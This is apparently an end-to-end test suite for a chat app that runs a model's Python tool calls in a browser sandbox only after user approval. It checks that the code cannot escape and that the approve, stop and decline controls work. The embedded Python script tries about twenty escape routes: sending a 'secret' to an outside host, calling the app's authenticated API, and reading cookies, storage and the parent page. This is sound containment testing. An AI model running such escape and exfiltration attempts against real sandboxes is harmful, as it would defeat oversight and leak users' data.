import { createServer, type Server as Listener } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { everything, violations } from "./axe";
import { newVisitor, openBrowser } from "./browser";
import { CallingModel } from "./calling-model";
import { AccountPages, somebody } from "./pages/account";
import { ChatPage } from "./pages/chat";
import { Server } from "./server";

/** Tries to leave the sandbox by everything that Python and a worker's globals have, and prints what came of it. */
const escapes = (own: string, other: string) => `
import asyncio, urllib.request, js
from pyodide.code import run_js
from pyodide.ffi import to_js
from pyodide.http import pyfetch

async def attempt(name, act):
    try:
        value = act()
        if hasattr(value, "then") or asyncio.iscoroutine(value):
            value = await asyncio.wait_for(value, 3)
        print(name, "works:", str(value)[:80])
    except BaseException as error:
        print(name, "fails:", type(error).__name__)

async def opened(socket):
    await asyncio.sleep(0.5)
    return {1: "open"}[socket.readyState]

def worker(text):
    return js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([text]), type="text/javascript")))

def sync_request():
    request = js.XMLHttpRequest.new()
    request.open("GET", "${other}/xhr", False)
    request.send()

async def own_worker():
    worker("fetch('${other}/worker', {mode: 'no-cors'}); importScripts('${other}/worker.js')")
    await asyncio.sleep(0.5)
    raise OSError

print("origin", js.self.origin)
await attempt("our API", lambda: js.fetch("${own}/api/auth/me", credentials="include"))
await attempt("our pages", lambda: js.fetch("${own}/chat", mode="no-cors"))
await attempt("fetch", lambda: js.fetch("${other}/fetch", mode="no-cors", method="POST", body="secret", keepalive=True))
await attempt("pyfetch", lambda: pyfetch("${other}/pyfetch"))
await attempt("urllib", lambda: urllib.request.urlopen("${other}/urllib").read())
await attempt("XMLHttpRequest", sync_request)
await attempt("WebSocket", lambda: opened(js.WebSocket.new("${other.replace("http", "ws")}/socket")))
await attempt("EventSource", lambda: opened(js.EventSource.new("${other}/events")))
await attempt("importScripts", lambda: js.Object.getPrototypeOf(js.self).importScripts("${other}/script.js"))
await attempt("import", lambda: run_js("import('${other}/module.js')"))
await attempt("Function", lambda: js.Function.new("return import('${other}/function.js')")())
await attempt("FontFace", lambda: js.FontFace.new("f", "url(${other}/font.woff2)").load())
await attempt("foreign worker", lambda: js.Worker.new("${other}/foreign.js"))
await attempt("our worker", lambda: js.Worker.new("${own}/sw.js"))
await attempt("own worker", own_worker)
await attempt("localStorage", lambda: js.localStorage.length)
await attempt("cookies", lambda: js.document.cookie)
await attempt("indexedDB", lambda: js.indexedDB.databases())
await attempt("caches", lambda: js.caches.keys())
await attempt("the page", lambda: js.parent.location.href)
`;

declare global {
  interface Window {
    frameCounts: { all: number; atOnce: number };
  }
}

/** Counts the frames that are added to a page from now on. */
function countFrames(): void {
  const counts = { all: 0, atOnce: 0 };
  window.frameCounts = counts;
  const observer = new MutationObserver((changes) => {
    const added = changes.flatMap(({ addedNodes }) => [...addedNodes]);
    counts.all += added.filter((node) => node instanceof HTMLIFrameElement).length;
    counts.atOnce = Math.max(counts.atOnce, document.querySelectorAll("iframe").length);
  });
  observer.observe(document.body, { childList: true });
}

describe("code of models", () => {
  let browser: Browser;
  let calling: CallingModel;
  let server: Server;
  let listener: Listener;
  const arrived: string[] = [];

  beforeAll(async () => {
    browser = await openBrowser();
    calling = await CallingModel.start();
    server = await Server.start({ OPENAI_BASE_URL: calling.model.url, LLM_MODEL: "gpt-5.4-mini" });
    const note = ({ url }: { url?: string | undefined }) => arrived.push(url ?? "");
    listener = createServer((request, reply) => {
      note(request);
      reply.setHeader("Access-Control-Allow-Origin", "*").end("1");
    }).on("upgrade", (request, socket) => {
      note(request);
      socket.destroy();
    });
    await new Promise<void>((listening) => listener.listen(0, "127.0.0.1", listening));
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    calling?.model.stop();
    listener?.close();
  });

  const card = (page: Page) => page.getByTestId("approval-card");
  const button = (page: Page, name: string) => card(page).getByRole("button", { name, exact: true });

  async function ask(question: string, code: string) {
    const { page } = await newVisitor(browser, server.url, { reducedMotion: "reduce" });
    await new AccountPages(page).enter(somebody());
    await page.getByTestId("composer-menu-button").click();
    await page.getByTestId("composer-tools").click();
    await page.getByRole("switch", { name: "Python", exact: true }).check();
    await page.keyboard.press("Escape");
    const chat = new ChatPage(page);
    await chat.ask(calling.plan(question, [["run_code", { code }]]));
    await card(page).waitFor();
    return { page, chat };
  }

  /** What the model was told of calls, the latest last. */
  const results = () =>
    calling.model.asked.flatMap(({ messages }) =>
      messages.filter(({ role }) => role === "tool").map(({ content }) => String(content)),
    );

  it("runs when the person agrees, cannot leave its sandbox, and runs unasked in a chat where it may", async () => {
    const address = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    const { page, chat } = await ask("Escape", `${escapes(server.url, address)}\nlen("abc") * 14`);
    expect(await card(page).innerText()).toContain('len("abc") * 14');
    expect(await violations(page, everything)).toEqual([]);
    await button(page, "Run in this chat").click();
    expect(await chat.ended(1, "complete", 90_000)).toContain("That is all.");
    const lines = results().at(-1)?.split("\n") ?? [];
    expect(lines.filter((line) => line.includes(" works:"))).toEqual([]);
    expect(lines.filter((line) => line.includes(" fails:")).length).toBe(20);
    expect(lines).toContain("origin null");
    expect(lines).toContain("[Value of the last expression] 42");
    expect(arrived).toEqual([]);
    // A second tab may run it, too. Each call is run once, and nothing else is said.
    const other = await page.context().newPage();
    await other.goto(page.url());
    await new ChatPage(other).ended(1);
    for (const tab of [page, other]) await tab.evaluate(countFrames);
    const calls = ["1 / 0", "6 * 7"].map((code): [string, object] => ["run_code", { code }]);
    await chat.ask(calling.plan("Again", calls));
    expect(await chat.ended(2, "complete", 90_000)).toContain("That is all.");
    await new ChatPage(other).ended(2, "complete", 90_000);
    expect(results().at(-2)).toContain("ZeroDivisionError: division by zero");
    expect(results().at(-1)).toContain("[Value of the last expression] 42");
    const ran = await Promise.all([page, other].map((tab) => tab.evaluate(() => window.frameCounts)));
    expect(ran.reduce((sum, { all }) => sum + all, 0)).toBe(2);
    expect(Math.max(...ran.map(({ atOnce }) => atOnce))).toBe(1);
    expect(await other.getByText(/no longer waits|went wrong/).count()).toBe(0);
  });

  it("waits without a page, and ends with the page, when stopped, and when declined", async () => {
    const { page, chat } = await ask("Loop", "while True: pass");
    const before = results().length;
    await button(page, "Run").click();
    await page.getByText("Running…", { exact: true }).waitFor({ timeout: 60_000 });
    await page.reload();
    await button(page, "Run").click();
    await page.getByText("Running…", { exact: true }).waitFor({ timeout: 60_000 });
    await button(page, "Stop").click();
    await card(page).getByText("Stopped. The model still waits for a result.").waitFor();
    expect(await page.locator("iframe").count()).toBe(0);
    expect(results().length).toBe(before);
    await button(page, "Decline").click();
    expect(await chat.ended(1)).toMatch(/Python\s+· declined/);
    expect(results().at(-1)).toContain("declined");
  });
});
